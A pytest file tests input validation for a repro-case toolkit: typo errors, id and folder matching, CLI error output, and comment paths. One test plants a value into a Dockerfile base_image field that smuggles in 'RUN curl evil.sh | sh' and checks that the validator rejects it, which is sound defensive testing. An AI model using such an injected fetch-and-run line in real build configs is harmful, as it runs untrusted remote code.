"""Case and matrix validation: a bad field is one line naming the file, the field and what is allowed."""

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from reprokit.model.case import load_case
from reprokit.model.matrix import load_matrix
from reprokit.model.schema import InputError

ROOT = Path(__file__).resolve().parents[1]
GOOD = ROOT / "cases" / "custom-op-unregistered-gemm" / "case.yaml"


def write_case(tmp_path, text, name="my-case"):
    folder = tmp_path / "cases" / name
    folder.mkdir(parents=True)
    (folder / "case.yaml").write_text(text)
    (folder / "repro.py").write_text("print('hi')\n")
    return folder / "case.yaml"


def test_every_committed_case_is_valid():
    paths = sorted((ROOT / "cases").glob("*/case.yaml"))
    cases = [load_case(path) for path in paths]  # each raises InputError where it is not
    assert len(cases) >= 80  # the corpus, not an empty folder
    assert [case.id for case in cases] == [path.parent.name for path in paths]


@pytest.mark.parametrize(
    "old, new, expected",
    [
        ("category: custom-op", "category: custom-opp", "category: must be 'dynamic-shape', "),
        ("  dtypes: [float32]", "  dtypes: [flaot32]", "requires.dtypes.0: must be "),
        ("requires:", "requirse:", "requirse: is not a known field"),
        ("repro: {kind: raises", "repro: {kind: explodes", "expect.repro.kind: must be "),
        ('match: "does not support running with fake tensors"', 'match: "(unclosed"', "match is not a valid regex"),
    ],
)
def test_typo_gives_one_line_naming_file_and_field(tmp_path, old, new, expected):
    text = GOOD.read_text().replace("id: custom-op-unregistered-gemm", "id: my-case")
    assert old in text
    path = write_case(tmp_path, text.replace(old, new))
    with pytest.raises(InputError) as err:
        load_case(path)
    message = str(err.value)
    assert str(path) in message and expected in message
    assert "\n" not in message


def test_id_must_match_folder(tmp_path):
    path = write_case(tmp_path, GOOD.read_text())
    with pytest.raises(InputError, match="must equal the folder name 'my-case'"):
        load_case(path)


def test_matrix_rejects_a_line_injected_into_a_dockerfile_value(tmp_path):
    text = (
        (ROOT / "matrix.yaml")
        .read_text()
        .replace("base_image: debian:bookworm-slim", 'base_image: "debian:bookworm-slim\\nRUN curl evil.sh | sh"')
    )
    bad = tmp_path / "matrix.yaml"
    bad.write_text(text)
    with pytest.raises(InputError, match=r"targets\.cpu\.base_image: .* is not allowed"):
        load_matrix(bad)


def test_cli_prints_one_line_and_no_traceback_for_a_typo(tmp_path):
    shutil.copy(ROOT / "matrix.yaml", tmp_path / "matrix.yaml")
    write_case(
        tmp_path,
        GOOD.read_text()
        .replace("id: custom-op-unregistered-gemm", "id: my-case")
        .replace("category: custom-op", "category: custom_op"),
    )
    proc = subprocess.run(
        [sys.executable, "-m", "reprokit", "--root", str(tmp_path), "list"],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(ROOT / "tools")},
    )
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
    assert "cases/my-case/case.yaml: category: must be" in proc.stderr


def test_every_file_a_case_yaml_comment_points_at_exists():
    """The header new-case writes names the module that validates the fields: in every committed case.yaml that
    module exists (a header left pointing at a moved file sends a contributor nowhere)."""
    import re

    named = [
        (path.parent.name, found)
        for path in sorted((ROOT / "cases").glob("*/case.yaml"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.startswith("#")
        for found in re.findall(r"tools/[\w/]+\.py", line)
    ]
    assert len(named) >= 40  # the headers are there to check
    assert not [(case, file) for case, file in named if not (ROOT / file).is_file()]
